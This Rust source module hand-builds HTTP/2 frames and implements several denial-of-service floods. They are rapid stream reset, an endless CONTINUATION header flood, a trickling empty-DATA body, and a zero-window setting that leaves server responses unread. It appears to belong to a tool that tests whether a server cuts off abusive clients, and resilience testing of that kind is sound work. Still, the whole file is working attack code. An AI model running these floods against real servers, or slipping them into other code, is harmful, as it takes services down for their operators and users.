//! Floods of HTTP/2, in frames made by hand.

use std::io;
use std::time::Duration;

use tokio::time::sleep;
use tokio::time::timeout;

use super::Kind;
use super::Stranger;
use super::connections::wait_for_the_end;
use crate::wire;
use crate::wire::Wire;

/// Longer than the server bears anybody: a minute without a request.
const PATIENCE: Duration = Duration::from_secs(90);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A GET of `/` at www.example.com, as RFC 7541 section C.4.1 packs it.
const GET: &[u8] = b"\x82\x86\x84\x41\x8c\xf1\xe3\xc2\xe5\xf2\x3a\x6b\xa0\xab\x90\xf4\xff";
/// POST, https, `/webhook` and no index.
const POST: &[u8] = b"\x83\x87\x04\x08/webhook\x01\x01h";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let stream = stream.to_be_bytes();
    [&length[1..], &[kind, flags], &stream, payload].concat()
}

impl Stranger {
    /// Goes on until the server has had enough.
    pub(super) async fn flood_streams(&mut self) -> io::Result<()> {
        let load = &self.load;
        let stream = wire::tls(load.address, self.source(), &load.tls.http2).await?;
        let mut wire = Wire::new(stream);
        wire.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
        let settings: &[u8] = match self.kind {
            // The window of each stream is empty at first.
            Kind::NoWindow => &[0, 4, 0, 0, 0, 0],
            _ => &[],
        };
        wire.send(&frame(SETTINGS, 0, 0, settings)).await?;
        let flood = async {
            match self.kind {
                Kind::ResetStreams => reset_streams(&mut wire).await,
                Kind::EndlessHead => endless_head(&mut wire).await,
                Kind::EndlessBody => endless_body(&mut wire).await,
                _ => unread_answers(&mut wire).await,
            }
        };
        timeout(PATIENCE, flood).await.map_err(io::Error::from)
    }
}

async fn reset_streams(wire: &mut Wire) {
    for first in (1..).step_by(200) {
        let pairs = (first..first + 200).step_by(2).map(|stream| {
            let open = frame(HEADERS, END_HEADERS, stream, GET);
            [open, frame(RESET, 0, stream, &[0, 0, 0, 8])].concat()
        });
        if wire
            .send(&pairs.collect::<Vec<_>>().concat())
            .await
            .is_err()
        {
            return;
        }
    }
}

async fn endless_head(wire: &mut Wire) {
    // A field that is literal and never indexed, again and again.
    let field = [&b"\x10\x01a\x7f\x87\x01"[..], &[b'x'; 262]].concat();
    let part = frame(CONTINUATION, 0, 1, &field.repeat(60));
    let mut next = frame(HEADERS, END_STREAM, 1, GET);
    while wire.send(&next).await.is_ok() {
        next.clone_from(&part);
    }
}

async fn endless_body(wire: &mut Wire) {
    let mut next = frame(HEADERS, END_HEADERS, 1, POST);
    while wire.send(&next).await.is_ok() {
        next = frame(DATA, 0, 1, &[]);
        sleep(Duration::from_millis(100)).await;
    }
}

async fn unread_answers(wire: &mut Wire) {
    for stream in [1, 3, 5] {
        let get = frame(HEADERS, END_HEADERS | END_STREAM, stream, GET);
        if wire.send(&get).await.is_err() {
            return;
        }
    }
    let _ = wait_for_the_end(wire.stream()).await;
}
